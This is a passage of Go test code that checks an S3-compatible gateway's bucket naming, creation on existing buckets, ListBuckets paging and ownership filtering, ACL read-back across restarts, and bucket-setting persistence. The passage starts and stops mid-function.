					r.Distinct(fmt.Sprintf("%s|%s|%s|%d|%s|%d|%d|%d", c.Part, cfg.Name, m.Name, c.Size, c.Key, c.Meta, c.GI, c.Prev))
					if !resp.OK() {
						r.Outcome("not-acknowledged:" + m.Class + ":" + fmtResp(resp))
						r.Add("not_acknowledged", 1)
						// refusing a valid upload is not a read-back violation, but an upload of this grammar that is answered
						// "no such key / upload" or with a server error was lost on the way: that is reported
						if resp.Err != nil || resp.Status == 404 || resp.Status >= 500 {
							report(c, "upload", []string{"valid upload answered " + fmtResp(resp)}, det)
						}
						if os.Getenv("VERIF_C01_DEBUG") != "" {
							lf, _ := os.OpenFile(os.Getenv("VERIF_C01_DEBUG"), os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0o644)
							defer lf.Close()
							fmt.Fprintf(lf, "NOT-ACK %s %s key=%q size=%d meta=%s: %s\n", cfg.Name, m.Name, c.Key, c.Size, metas[c.Meta].Name, ck.Short(resp.String(), 300))
						}
						continue
					}
					r.Outcome("acknowledged:" + m.Class)
					// the acknowledgement itself: ETag of a PUT / Complete
					if et := resp.Header.Get("ETag"); et != "" {
						ok := false
						for _, x := range w.ETags {
							ok = ok || x == et
						}
						if !ok {
							report(c, "acknowledgement", []string{"acknowledgement ETag"}, det)
						}
					}
					for a, v := range csumHdrs(resp.Header) {
						if !strings.Contains(v, "-") && v != gw.Checksum(a, body) {
							report(c, "acknowledgement", []string{"acknowledgement x-amz-checksum-" + a + " is not the checksum of the body"}, det)
						}
					}
					for gi, g := range e.gws {
						bad, n, info := c01Observe(g, c.Key, w)
						r.Add("evaluations", int64(n))
						det["observed"] = info
						report(c, "read back through "+[]string{"A", "B"}[gi], bad, det)
						if w.AlsoWant != nil {
							bad, n, info := c01Observe(g, w.AlsoKey, w.AlsoWant)
							r.Add("evaluations", int64(n))
							det["observed_source"] = info
							for i := range bad {
								bad[i] = "source object: " + bad[i]
							}
							report(c, "source read back through "+[]string{"A", "B"}[gi], bad, det)
						}
					}
					e.objs = append(e.objs, c01Stored{Part: c.Part, Class: m.Class, Bucket: c01Bucket, Key: c.Key, Want: w, Detail: det})
				}
				// restart both processes and read everything back once more
				e.restart()
				for _, o := range e.objs {
					for gi, g := range e.gws {
						bad, n, info := c01Observe(g, o.Key, o.Want)
						r.Add("evaluations", int64(n))
						o.Detail["observed"] = info
						for _, b := range bad {
							d := map[string]any{"phase": "read back after restart through " + []string{"A", "B"}[gi]}
							for k, v := range o.Detail {
								d[k] = v
							}
							r.Violation(ck.JoinSig(o.Part, o.Class, b), d)
						}
					}
				}
				e.Close()
			}
		}
	})
	r.Sample(map[string]any{"configuration": "sidecar,otmpfile", "method": "put:stream-unsigned-trailer:crc32c:uneven", "size": 65537, "key": "s/…", "metadata": "meta+tags", "observers": []string{"GET", "HEAD", "GetObjectTagging", "GetObjectAttributes", "ListObjectsV2"}, "gateways": "A, B, A', B'"})
}
