package checks

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"sort"
	"strings"

	"github.com/aws/aws-sdk-go-v2/service/s3"
	"github.com/aws/aws-sdk-go-v2/service/s3/types"
	"github.com/versity/versitygw/s3api/utils"
	"github.com/versity/versitygw/s3response"

	"verif/ck"
	"verif/gw"
	"verif/sched"
)

func init() { Registry["C16"] = C16 }

var reIP = regexp.MustCompile(`^[0-9]+\.[0-9]+\.[0-9]+\.[0-9]+$`)

// refBucketName: the firm S3 naming rules; reserved prefixes/suffixes are left to the implementation ("either").
func refBucketName(n string) (valid bool, firm bool) {
	if len(n) < 3 || len(n) > 63 {
		return false, true
	}
	for i := 0; i < len(n); i++ {
		c := n[i]
		if !(c >= 'a' && c <= 'z' || c >= '0' && c <= '9' || c == '.' || c == '-') {
			return false, true
		}
	}
	first, last := n[0], n[len(n)-1]
	edge := func(c byte) bool { return c >= 'a' && c <= 'z' || c >= '0' && c <= '9' }
	if !edge(first) || !edge(last) {
		return false, true
	}
	if strings.Contains(n, "..") {
		return false, true
	}
	if reIP.MatchString(n) {
		return false, true
	}
	if strings.HasPrefix(n, "xn--") || strings.HasPrefix(n, "sthree-") || strings.HasPrefix(n, "amzn-s3-demo-") || strings.HasSuffix(n, "-s3alias") || strings.HasSuffix(n, "--ol-s3") || strings.HasSuffix(n, ".mrap") || strings.HasSuffix(n, "--x-s3") {
		return true, false
	}
	// a dot next to a hyphen is discouraged, not forbidden
	return true, true
}

func c16Names(thorough bool) []string {
	alpha := "azA09.-_"
	maxLen := 4
	names := allStrings(alpha, maxLen)
	names = append(names, strings.Repeat("a", 63), strings.Repeat("a", 64), "a"+strings.Repeat("-", 61)+"a", "192.168.0.1", "1.2.3.4", "256.1.1.1", "1.2.3", "1.2.3.4.5", "a..b", "a.-b", "a-.b",
		"-ab", "ab-", ".ab", "ab.", "xn--abc", "abc-s3alias", "sthree-abc", "abc--ol-s3", "ab c", "ab/c", "ab%c", "é-bucket", "abc\x00", "ABC", "aBc", "a_b", "my.bucket.name", "my-bucket-1", "0a0", "a0-0a")
	return names
}

func C16(r *ck.Run) {
	requireInstrumented()
	r.Rule("(a) every string of length <= 4 over {a,z,A,0,9,'.','-','_'} plus boundary lengths and shaped names through IsValidBucketName and (stride) through PUT /name, against the S3 naming predicate; (b) CreateBucket on every existing-bucket state (written to, configured but never written to, or a directory that did not come into being through the gateway) × creator × headers, and ListBuckets over every population of <= 4 buckets of 3 owners (two of whose access keys differ in letter case only) × prefix × max-buckets × token walk for user and admin callers; (c) ACL documents (one grantee in several grants, the owner's own grant, written back as read) read back before and after a restart, a deleted bucket re-created under another owner on every metadata store (no setting survives), DELETE / PUT with every bucket sub-resource the gateway does not implement (bucket and settings stay), and breadth-first search over put/get/delete of every bucket setting (tags, policy, ACL, ownership controls, versioning, lock configuration) with restarts, read back after every step, and DeleteBucket on every non-empty state; (d) every interleaving with bounded preemptions of DeleteBucket against PutObject / nested PutObject / CreateMultipartUpload / UploadPart / CompleteMultipartUpload / CreateBucket (also followed by versioned uploads, on versioning and sidecar configurations) / PutBucketTagging on real posix backends; distinct = distinct name / population+query / state / schedule")
	r.Assume("reserved bucket-name prefixes and suffixes (xn--, -s3alias, ...) may be accepted or refused; single syscalls are atomic; (d) runs at the backend seam (the ACL lookup of the HTTP layer is not part of the interleaving)")
	names := c16Names(r.Thorough())
	r.Sharded(16, func() {
		// (a) direct predicate
		for i, n := range names {
			if !r.Mine(i) {
				continue
			}
			got := utils.IsValidBucketName(n, false)
			want, firm := refBucketName(n)
			r.Add("evaluations", 1)
			r.Add("names", 1)
			if firm && got != want {
				r.Violation(ck.JoinSig("name", fmt.Sprintf("accepted=%v", got), nameClass(n)), map[string]any{"name": n, "accepted": got, "s3_valid": want})
			}
			r.Distinct("name|" + n)
		}
		r.Outcome("names-done")
		c16Schedules(r)
		if r.ShardI <= 0 {
			c16HTTPNames(r, names)
			c16CreateExisting(r)
			c16ACLs(r)
			c16Recreate(r)
			c16ForeignSubresources(r)
		}
		c16ListBuckets(r)
		c16Settings(r)
	})
	r.Sample(map[string]any{"name": "a..b", "s3_valid": false})
}

func nameClass(n string) string {
	switch {
	case len(n) < 3:
		return "too-short"
	case len(n) > 63:
		return "too-long"
	case strings.Contains(n, ".."):
		return "adjacent-dots"
	case reIP.MatchString(n):
		return "ip-shaped"
	case strings.ContainsAny(n, "ABCDEFGHIJKLMNOPQRSTUVWXYZ"):
		return "uppercase"
	case strings.Contains(n, "_"):
		return "underscore"
	case strings.HasPrefix(n, "-") || strings.HasPrefix(n, ".") || strings.HasSuffix(n, "-") || strings.HasSuffix(n, "."):
		return "bad-edge"
	}
	return "other"
}

// (a2) names through the HTTP layer
func c16HTTPNames(r *ck.Run, names []string) {
	f := NewFx("c16n", gw.Opts{})
	defer f.Close()
	for i, n := range names {
		if i%7 != 0 && len(n) <= 4 {
			continue // stride through the short names; all shaped names are sent
		}
		if strings.ContainsAny(n, "/%\x00 ") || n == "" {
			continue
		}
		want, firm := refBucketName(n)
		resp := f.Do(gw.Root, "PUT", "/"+gw.URIEncode(n, true), "", nil, nil)
		r.Add("evaluations", 1)
		r.Distinct("http-name|" + n)
		if firm && resp.OK() != want {
			r.Violation(ck.JoinSig("http-name", fmt.Sprintf("created=%v", resp.OK()), nameClass(n)), map[string]any{"name": n, "response": resp.String(), "s3_valid": want})
		}
		if resp.OK() {
			f.Do(gw.Root, "DELETE", "/"+gw.URIEncode(n, true), "", nil, nil)
		}
	}
}

// (b1) creating a bucket that exists
func c16CreateExisting(r *ck.Run) {
	for _, cfg := range []gw.Opts{{}, {Versioning: true}} {
		mk := func() *World {
			w := NewWorld("c16c", cfg)
			// a bucket that is configured (owner, tags, ACL) but has never been written to
			Must(w.F.CreateBucket(gw.Root, "bk-fresh", "x-amz-object-ownership", "BucketOwnerPreferred"), "create fresh")
			Must(w.F.Do(gw.Root, "PATCH", "/change-bucket-owner", gw.Q("bucket", "bk-fresh", "owner", "usr2"), nil, nil), "chown fresh")
			Must(w.F.Do(gw.Root, "PUT", "/bk-fresh", "tagging", nil, []byte("<Tagging><TagSet><Tag><Key>k</Key><Value>v</Value></Tag></TagSet></Tagging>")), "tag fresh")
			Must(w.F.Do(gw.Root, "PUT", "/bk-fresh", "acl", H("x-amz-grant-read", "usr3"), nil), "acl fresh")
			// a directory that did not come into being through the gateway (copied in, restored without attributes): it
			// has no owner record, and creating "it" must not hand its content to the caller
			if err := os.MkdirAll(filepath.Join(w.F.G.Root, "bk-legacy", "sub"), 0o755); err != nil {
				ck.Fatal("legacy dir: %v", err)
			}
			if err := os.WriteFile(filepath.Join(w.F.G.Root, "bk-legacy", "sub", "payroll.csv"), []byte(canaryOther+" legacy"), 0o644); err != nil {
				ck.Fatal("legacy file: %v", err)
			}
			return w
		}
		w := mk()
		base := w.F.G.Snapshot(gw.SnapOpts{})
		for _, c := range []gw.Creds{gw.Root, cAdm, cUp, cUsr1, cUsr2} {
			for _, h := range [][]string{nil, {"x-amz-acl", "public-read"}, {"x-amz-object-ownership", "BucketOwnerPreferred"}, {"x-amz-bucket-object-lock-enabled", "true"}, {"x-amz-grant-full-control", "usr2"}} {
				for _, b := range []string{w.Bucket, w.Other, "bk-fresh", "bk-legacy"} {
					resp := w.F.CreateBucket(c, b, h...)
					r.Add("evaluations", 1)
					r.Distinct(fmt.Sprintf("create-existing|%v|%s|%v|%s", cfg.Versioning, c.Access, h, b))
					diff := base.Diff(w.F.G.Snapshot(gw.SnapOpts{}), 6)
					var an []string
					if resp.OK() {
						an = append(an, "create-on-existing-bucket-succeeded")
					}
					if len(diff) > 0 {
						an = append(an, "existing-bucket-changed")
					}
					if len(an) > 0 {
						r.Violation(ck.JoinSig("create-existing", strings.Join(an, "+"), roleOf(c), fmt.Sprint(h)), map[string]any{"bucket": b, "caller": c.Access, "headers": h, "response": resp.String(), "state_diff": diff})
						w.Close()
						w = mk()
						base = w.F.G.Snapshot(gw.SnapOpts{})
					}
				}
			}
		}
		w.Close()
	}
}

// (b2) ListBuckets over populations
func c16ListBuckets(r *ck.Run) {
	// two of the owners have access keys that differ in letter case only: they are different accounts
	cUSR1 := gw.Creds{Access: "USR1", Secret: "USR1secretUSR1secret"}
	owners := []gw.Creds{cUsr1, cUSR1, cUp}
	pool := []string{"aa-one", "aa-two", "bb-one", "bb-two"}
	f := NewFx("c16l", gw.Opts{})
	defer f.Close()
	for _, u := range []struct {
		c    gw.Creds
		role string
	}{{cUsr1, "user"}, {cUSR1, "user"}, {cUp, "userplus"}, {cAdm, "admin"}} {
		Must(f.Do(gw.Root, "PATCH", "/create-user", "", nil, xmlUser(u.c, u.role, 0, 0)), "create user")
	}
	// every assignment of each pool bucket to {absent, owner0, owner1, owner2}
	total := 1
	for range pool {
		total *= 4
	}
	for code := 0; code < total; code++ {
		if !r.Mine(code) {
			continue
		}
		own := map[string]string{}
		c := code
		for _, b := range pool {
			o := c % 4
			c /= 4
			if o > 0 {
				own[b] = owners[o-1].Access
			}
		}
		// build the population
		for _, b := range pool {
			f.Do(gw.Root, "DELETE", "/"+b, "", nil, nil)
		}
		for b, o := range own {
			Must(f.CreateBucket(gw.Root, b), "create")
			Must(f.Do(gw.Root, "PATCH", "/change-bucket-owner", gw.Q("bucket", b, "owner", o), nil, nil), "chown")
		}
		for _, caller := range []gw.Creds{cUsr1, cUSR1, cUp, cAdm, gw.Root} {
			for _, prefix := range []string{"", "aa", "bb-t", "zz"} {
				var want []string
				for b, o := range own {
					if strings.HasPrefix(b, prefix) && (o == caller.Access || caller.Access == cAdm.Access || caller.Access == gw.RootAccess) {
						want = append(want, b)
					}
				}
				sort.Strings(want)
				for _, mb := range []string{"", "1", "2", "1000"} {
					var got []string
					token := ""
					pages := 0
					for {
						q := []string{}
						if prefix != "" {
							q = append(q, "prefix", prefix)
						}
						if mb != "" {
							q = append(q, "max-buckets", mb)
						}
						if token != "" {
							q = append(q, "continuation-token", token)
						}
						resp := f.Do(caller, "GET", "/", gw.Q(q...), nil, nil)
						r.Add("evaluations", 1)
						if !resp.OK() {
							r.Violation(ck.JoinSig("list-buckets", "failed", fmtResp(resp)), map[string]any{"population": own, "caller": caller.Access, "query": gw.Q(q...), "response": resp.String()})
							break
						}
						page := xmlAll(resp.Body, "Name")
						if mb != "" && mb != "1000" && len(page) > atoi(mb) {
							r.Violation(ck.JoinSig("list-buckets", "page-exceeds-max-buckets"), map[string]any{"population": own, "caller": caller.Access, "query": gw.Q(q...), "page": page})
						}
						got = append(got, page...)
						token = xmlFieldS(resp.Body, "ContinuationToken")
						pages++
						if token == "" || pages > 8 {
							break
						}
					}
					if mb == "" && prefix == "" {
						// a continuation token issued for a bucket that has been deleted since (every pool name, present
						// or absent, is a token the gateway may have handed out earlier): the listing resumes after it
						for _, tk := range pool {
							var wantAfter []string
							for _, b := range want {
								if b > tk {
									wantAfter = append(wantAfter, b)
								}
							}
							resp := f.Do(caller, "GET", "/", gw.Q("continuation-token", tk), nil, nil)
							r.Add("evaluations", 1)
							r.Distinct(fmt.Sprintf("list-buckets|%d|%s|token=%s", code, caller.Access, tk))
							if page := xmlAll(resp.Body, "Name"); !resp.OK() || strings.Join(page, ",") != strings.Join(wantAfter, ",") {
								present := "token-names-an-existing-bucket"
								if _, ok := own[tk]; !ok {
									present = "token-names-a-deleted-bucket"
								}
								r.Violation(ck.JoinSig("list-buckets", "resume-after-token", present, roleOf(caller)), map[string]any{"population": own, "caller": caller.Access, "token": tk, "expected": wantAfter, "got": page, "status": fmtResp(resp)})
							}
						}
					}
					r.Distinct(fmt.Sprintf("list-buckets|%d|%s|%s|%s", code, caller.Access, prefix, mb))
					if strings.Join(got, ",") != strings.Join(want, ",") {
						kind := "wrong-bucket-set"
						seen := map[string]bool{}
						for _, g := range got {
							if seen[g] {
								kind = "bucket-listed-twice"
							}
							seen[g] = true
							if own[g] != caller.Access && caller.Access != cAdm.Access && caller.Access != gw.RootAccess {
								kind = "foreign-bucket-listed"
							}
						}
						r.Violation(ck.JoinSig("list-buckets", kind, roleOf(caller), "max-buckets="+mb), map[string]any{"population": own, "caller": caller.Access, "prefix": prefix, "max_buckets": mb, "expected": want, "got": got})
					}
				}
			}
		}
	}
	r.Outcome("list-buckets-done")
}

func atoi(s string) int { var n int; fmt.Sscan(s, &n); return n }

func xmlAll(b []byte, name string) []string {
	var out []string
	open, cl := []byte("<"+name+">"), []byte("</"+name+">")
	for {
		i := bytes.Index(b, open)
		if i < 0 {
			return out
		}
		j := bytes.Index(b[i:], cl)
		if j < 0 {
			return out
		}
		out = append(out, string(b[i+len(open):i+j]))
		b = b[i+j+len(cl):]
	}
}

// (c0) bucket ACL documents: every grant list of a menu (incl. one grantee named in several grants) written as XML
// body, read back through GetBucketAcl before and after a restart: the set of (grantee, permission) pairs must be
// the one that was written.
func c16ACLs(r *ck.Run) {
	w := NewWorld("c16a", gw.Opts{})
	defer w.Close()
	type g struct{ ID, Perm string }
	menus := [][]g{
		{{"usr3", "READ"}},
		{{"usr3", "READ"}, {"usr3", "WRITE"}},
		{{"usr3", "READ"}, {"usr2", "READ"}, {"usr3", "WRITE"}},
		{{"usr2", "FULL_CONTROL"}, {"usr3", "READ_ACP"}},
		{{"usr3", "WRITE"}, {"usr3", "WRITE_ACP"}, {"usr3", "READ"}, {"usr3", "READ_ACP"}},
		{},
		// the owner's own grant written explicitly, as every GetBucketAcl answer carries it
		{{"usr1", "FULL_CONTROL"}, {"usr3", "READ"}},
		{{"usr1", "FULL_CONTROL"}},
	}
	for mi, m := range menus {
		var x strings.Builder
		x.WriteString(`<AccessControlPolicy xmlns="http://s3.amazonaws.com/doc/2006-03-01/"><Owner><ID>usr1</ID></Owner><AccessControlList>`)
		want := map[string]int{}
		for _, e := range m {
			fmt.Fprintf(&x, `<Grant><Grantee xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:type="CanonicalUser"><ID>%s</ID></Grantee><Permission>%s</Permission></Grant>`, e.ID, e.Perm)
			if e.ID == "usr1" && e.Perm == "FULL_CONTROL" {
				continue // the owner's grant: listed once or not at all, see below
			}
			want[e.ID+":"+e.Perm]++
		}
		x.WriteString(`</AccessControlList></AccessControlPolicy>`)
		resp := w.F.Do(gw.Root, "PUT", "/"+w.Bucket, "acl", nil, []byte(x.String()))
		r.Add("evaluations", 1)
		r.Distinct(fmt.Sprintf("acl-doc|%d", mi))
		if !resp.OK() {
			r.Violation(ck.JoinSig("acl", "valid-document-refused", fmtResp(resp)), map[string]any{"document": x.String(), "response": resp.String()})
			continue
		}
		for _, phase := range []string{"no-restart", "after-restart"} {
			if phase == "after-restart" {
				w.F.Restart()
			}
			got := w.F.Do(gw.Root, "GET", "/"+w.Bucket, "acl", nil, nil)
			r.Add("evaluations", 1)
			have := map[string]int{}
			body := string(got.Body)
			ownerGrants := 0
			for _, gr := range strings.Split(body, "<Grant>")[1:] {
				id, perm := xmlFieldS([]byte(gr), "ID"), xmlFieldS([]byte(gr), "Permission")
				if id == "usr1" && perm == "FULL_CONTROL" {
					ownerGrants++ // the owner's own grant may be listed, once
					continue
				}
				have[id+":"+perm]++
			}
			if !got.OK() || fmt.Sprint(have) != fmt.Sprint(want) {
				r.Violation(ck.JoinSig("acl", "read-back-differs-from-what-was-written", phase), map[string]any{"written": x.String(), "expected_grants": fmt.Sprint(want), "read_back_grants": fmt.Sprint(have), "response": got.String()})
			}
			if ownerGrants > 1 {
				r.Violation(ck.JoinSig("acl", "owner-grant-listed-more-than-once", phase), map[string]any{"written": x.String(), "owner_grants": ownerGrants, "response": got.String()})
			}
			if phase == "no-restart" && got.OK() {
				// read-modify-write without a modification: writing back what was read changes nothing
				for cycle := 1; cycle <= 2; cycle++ {
					doc := body
					if i := strings.Index(doc, "<AccessControlPolicy"); i > 0 {
						doc = doc[i:]
					}
					pb := w.F.Do(gw.Root, "PUT", "/"+w.Bucket, "acl", nil, []byte(doc))
					again := w.F.Do(gw.Root, "GET", "/"+w.Bucket, "acl", nil, nil)
					r.Add("evaluations", 1)
					if !pb.OK() {
						r.Violation(ck.JoinSig("acl", "document-read-from-the-gateway-refused-when-written-back", fmtResp(pb)), map[string]any{"document": doc, "response": pb.String()})
						break
					}
					if string(again.Body) != body {
						r.Violation(ck.JoinSig("acl", "writing-back-what-was-read-changes-the-acl"), map[string]any{"cycle": cycle, "read": body, "read_after_writing_it_back": string(again.Body)})
						break
					}
				}
			}
		}
	}
	r.Outcome("acl-documents-done")
}

// usersFor creates the fixture's accounts on a bare gateway.
func usersFor(f *Fx) {
	for _, u := range []struct {
		c    gw.Creds
		role string
	}{{cAdm, "admin"}, {cUp, "userplus"}, {cUsr1, "user"}, {cUsr2, "user"}, {cUsr3, "user"}} {
		Must(f.Do(gw.Root, "PATCH", "/create-user", "", nil, xmlUser(u.c, u.role, 0, 0)), "create "+u.c.Access)
	}
}

// c16Recreate: a bucket that is deleted takes its settings with it, on every metadata store: a new bucket of the same
// name (another owner, with and without a restart in between) shows none of them.
func c16Recreate(r *ck.Run) {
	for _, cfg := range []gw.Opts{{Versioning: true}, {Sidecar: true, Versioning: true}, {Sidecar: true}} {
		for _, restart := range []bool{false, true} {
			f := NewFx("c16r", cfg)
			usersFor(f)
			Must(f.CreateBucket(gw.Root, "reb", "x-amz-bucket-object-lock-enabled", "true", "x-amz-object-ownership", "BucketOwnerPreferred"), "create")
			Must(f.Do(gw.Root, "PATCH", "/change-bucket-owner", gw.Q("bucket", "reb", "owner", "usr1"), nil, nil), "chown")
			written := map[string]string{
				"tagging":     "<Tagging><TagSet><Tag><Key>owner</Key><Value>first</Value></Tag></TagSet></Tagging>",
				"policy":      `{"Statement":[{"Effect":"Allow","Principal":"usr3","Action":"s3:*","Resource":["arn:aws:s3:::reb","arn:aws:s3:::reb/*"]}]}`,
				"object-lock": "<ObjectLockConfiguration><ObjectLockEnabled>Enabled</ObjectLockEnabled><Rule><DefaultRetention><Mode>COMPLIANCE</Mode><Days>30</Days></DefaultRetention></Rule></ObjectLockConfiguration>",
				"cors":        "<CORSConfiguration><CORSRule><AllowedOrigin>http://first.example</AllowedOrigin><AllowedMethod>GET</AllowedMethod></CORSRule></CORSConfiguration>",
			}
			store := "xattr"
			if cfg.Sidecar {
				store = "sidecar"
			}
			broken := false
			for _, q := range []string{"tagging", "policy", "object-lock", "cors"} {
				if resp := f.Do(gw.Root, "PUT", "/reb", q, nil, []byte(written[q])); !resp.OK() && q != "cors" {
					r.Violation(ck.JoinSig("recreate", store, "valid-setting-refused", q, fmtResp(resp)), map[string]any{"config": fmt.Sprintf("%+v", cfg), "setting": q, "document": written[q], "response": resp.String()})
					broken = true
				}
			}
			if resp := f.Do(gw.Root, "PUT", "/reb", "acl", H("x-amz-grant-read", "usr3"), nil); !resp.OK() {
				r.Violation(ck.JoinSig("recreate", store, "valid-setting-refused", "acl", fmtResp(resp)), map[string]any{"config": fmt.Sprintf("%+v", cfg), "response": resp.String()})
				broken = true
			}
			if resp := f.Do(gw.Root, "DELETE", "/reb", "", nil, nil); !resp.OK() {
				r.Violation(ck.JoinSig("recreate", store, "empty-bucket-not-deletable", fmtResp(resp)), map[string]any{"config": fmt.Sprintf("%+v", cfg), "response": resp.String()})
				broken = true
			}
			if broken {
				f.Close()
				continue
			}
			if restart {
				f.Restart()
			}
			Must(f.CreateBucket(gw.Root, "reb"), "create again")
			Must(f.Do(gw.Root, "PATCH", "/change-bucket-owner", gw.Q("bucket", "reb", "owner", "usr2"), nil, nil), "chown again")
			r.Distinct(fmt.Sprintf("recreate|%v|%v|%v", cfg.Sidecar, cfg.Versioning, restart))
			for _, probe := range []struct{ q, marker string }{{"tagging", "first"}, {"policy", "usr3"}, {"object-lock", "COMPLIANCE"}, {"cors", "first.example"}, {"versioning", "<Status>"}, {"acl", "usr3"}, {"acl", "usr1"}, {"ownershipControls", "BucketOwnerPreferred"}} {
				resp := f.Do(gw.Root, "GET", "/reb", probe.q, nil, nil)
				r.Add("evaluations", 1)
				if resp.OK() && strings.Contains(string(resp.Body), probe.marker) {
					r.Violation(ck.JoinSig("recreate", store, "new-bucket-shows-a-setting-of-the-deleted-bucket", probe.q), map[string]any{"config": fmt.Sprintf("%+v", cfg), "restart_between": restart, "setting": probe.q, "response": resp.String()})
				}
			}
			// and what the old policy / ACL granted is gone with them
			if resp := f.Do(cUsr3, "GET", "/reb", "", nil, nil); resp.OK() {
				r.Violation(ck.JoinSig("recreate", store, "grant-of-the-deleted-bucket-still-decides"), map[string]any{"config": fmt.Sprintf("%+v", cfg), "restart_between": restart, "response": resp.String()})
			}
			f.Close()
		}
	}
	r.Outcome("recreate-done")
}

// c16ForeignSubresources: a DELETE (or PUT) that names a bucket sub-resource the gateway does not implement must
// not be taken for DeleteBucket (CreateBucket): the bucket and its settings stay as they are.
func c16ForeignSubresources(r *ck.Run) {
	f := NewFx("c16u", gw.Opts{})
	defer f.Close()
	usersFor(f)
	tag := "<Tagging><TagSet><Tag><Key>keep</Key><Value>me</Value></Tag></TagSet></Tagging>"
	for _, sub := range []string{"lifecycle", "encryption", "website", "replication", "publicAccessBlock", "analytics&id=a", "metrics&id=m", "inventory&id=i", "intelligent-tiering&id=t", "accelerate", "logging", "notification", "requestPayment", "acl", "versioning", "object-lock", "policyStatus", "location", "uploads", "versions", "delete", "x-id=DeleteBucketLifecycle&lifecycle"} {
		for _, method := range []string{"DELETE", "PUT"} {
			Must(f.CreateBucket(gw.Root, "subb"), "create")
			Must(f.Do(gw.Root, "PATCH", "/change-bucket-owner", gw.Q("bucket", "subb", "owner", "usr1"), nil, nil), "chown")
			Must(f.Do(cUsr1, "PUT", "/subb", "tagging", nil, []byte(tag)), "tag")
			resp := f.Do(cUsr1, method, "/subb", sub, nil, nil)
			r.Add("evaluations", 1)
			r.Distinct("foreign-subresource|" + method + "|" + sub)
			r.Outcome(fmt.Sprintf("foreign-subresource:%s:%d", method, resp.Status))
			after := f.Do(cUsr1, "GET", "/subb", "tagging", nil, nil)
			acl := f.Do(gw.Root, "GET", "/subb", "acl", nil, nil)
			if !after.OK() || !strings.Contains(string(after.Body), "<Key>keep</Key>") || !strings.Contains(string(acl.Body), "usr1") {
				r.Violation(ck.JoinSig("foreign-subresource", method, strings.SplitN(strings.TrimPrefix(sub, "x-id=DeleteBucketLifecycle&"), "&", 2)[0], "bucket-or-settings-gone", fmt.Sprintf("answered-%d", resp.Status)),
					map[string]any{"request": method + " /subb?" + sub, "response": resp.String(), "tagging_after": after.String(), "acl_after": acl.String()})
			}
			f.Do(gw.Root, "DELETE", "/subb", "", nil, nil)
		}
	}
}

// (c) bucket settings: BFS over put/get/delete with restarts
type c16Setting struct {
	Name   string
	Query  string
	Docs   []string            // valid documents to put
	Hdrs   [][]string          // alternative: header-based put (ACL)
	Norm   func(string) string // canonical read-back form of a document
	CanDel bool
}

func c16Settings(r *ck.Run) {
	depth := 3
	if r.Thorough() {
		depth = 4
	}
	type op struct {
		Setting string
		Kind    string // put0 put1 delete restart
	}
	tagDoc := func(k, v string) string {
		return "<Tagging><TagSet><Tag><Key>" + k + "</Key><Value>" + v + "</Value></Tag></TagSet></Tagging>"
	}
	pol := func(action string) string {
		return fmt.Sprintf(`{"Statement":[{"Effect":"Allow","Principal":"usr3","Action":"%s","Resource":"arn:aws:s3:::bk-main/*"}]}`, action)
	}
	settings := map[string]c16Setting{
		"tagging":    {Query: "tagging", Docs: []string{tagDoc("k1", "a-longer-value-1"), tagDoc("k2", "v 2")}, CanDel: true},
		"policy":     {Query: "policy", Docs: []string{pol("s3:GetObject"), pol("s3:PutObject")}, CanDel: true},
		"ownership":  {Query: "ownershipControls", Docs: []string{"<OwnershipControls><Rule><ObjectOwnership>BucketOwnerPreferred</ObjectOwnership></Rule></OwnershipControls>", "<OwnershipControls><Rule><ObjectOwnership>ObjectWriter</ObjectOwnership></Rule></OwnershipControls>"}, CanDel: true},
		"versioning": {Query: "versioning", Docs: []string{"<VersioningConfiguration><Status>Enabled</Status></VersioningConfiguration>", "<VersioningConfiguration><Status>Suspended</Status></VersioningConfiguration>"}},
	}
	var alpha []op
	for _, n := range []string{"tagging", "policy", "ownership", "versioning"} {
		alpha = append(alpha, op{n, "put0"}, op{n, "put1"})
		if settings[n].CanDel {
			alpha = append(alpha, op{n, "delete"})
		}
	}
	alpha = append(alpha, op{"", "restart"})
	// what a read must show for a value
	expectIn := map[string][]string{
		"tagging|0": {"<Key>k1</Key>", "<Value>a-longer-value-1</Value>"}, "tagging|1": {"<Key>k2</Key>", "<Value>v 2</Value>"},
		"policy|0": {"s3:GetObject"}, "policy|1": {"s3:PutObject"},
		"ownership|0": {"BucketOwnerPreferred"}, "ownership|1": {"ObjectWriter"},
		"versioning|0": {"<Status>Enabled</Status>"}, "versioning|1": {"<Status>Suspended</Status>"},
	}
	notIn := map[string][]string{
		"tagging|0": {"k2"}, "tagging|1": {"k1"}, "policy|0": {"s3:PutObject"}, "policy|1": {"s3:GetObject"},
		"ownership|0": {"ObjectWriter"}, "ownership|1": {"BucketOwnerPreferred"}, "versioning|0": {"Suspended"}, "versioning|1": {"Enabled"},
	}
	var progs [][]int
	var gen func(cur []int)
	gen = func(cur []int) {
		if len(cur) > 0 {
			progs = append(progs, append([]int{}, cur...))
		}
		if len(cur) == depth {
			return
		}
		for i := range alpha {
			if len(cur) > 0 && alpha[i].Kind == "restart" && alpha[cur[len(cur)-1]].Kind == "restart" {
				continue
			}
			gen(append(cur, i))
		}
	}
	gen(nil)
	seen := map[string]bool{}
	for pi, prog := range progs {
		if !r.Mine(pi) {
			continue
		}
		// state key: model after the program (restart is invisible): dedup identical model paths of equal length
		model := map[string]int{} // setting → doc index, -1 deleted/absent
		var names []string
		for _, oi := range prog {
			o := alpha[oi]
			names = append(names, o.Setting+":"+o.Kind)
		}
		key := strings.Join(names, ",")
		if seen[key] {
			continue
		}
		seen[key] = true
		// alternate the metadata store between programs (a value replaced by a shorter one must not keep its tail)
		sopts := gw.Opts{Versioning: true, Sidecar: pi%2 == 1}
		f := NewFx("c16s", sopts)
		usersFor(f)
		w := struct{ Bucket string }{"bk-main"}
		ok := true
		if resp := f.CreateBucket(gw.Root, w.Bucket, "x-amz-object-ownership", "BucketOwnerPreferred"); !resp.OK() {
			r.Violation(ck.JoinSig("settings", "create-bucket-failed", fmtResp(resp)), map[string]any{"config": fmt.Sprintf("%+v", sopts), "response": resp.String()})
			ok = false
		} else if resp := f.Do(gw.Root, "PATCH", "/change-bucket-owner", gw.Q("bucket", w.Bucket, "owner", "usr1"), nil, nil); !resp.OK() {
			r.Violation(ck.JoinSig("settings", "change-bucket-owner-failed", fmtResp(resp)), map[string]any{"config": fmt.Sprintf("%+v", sopts), "response": resp.String()})
			ok = false
		}
		for si, oi := range prog {
			if !ok {
				break
			}
			o := alpha[oi]
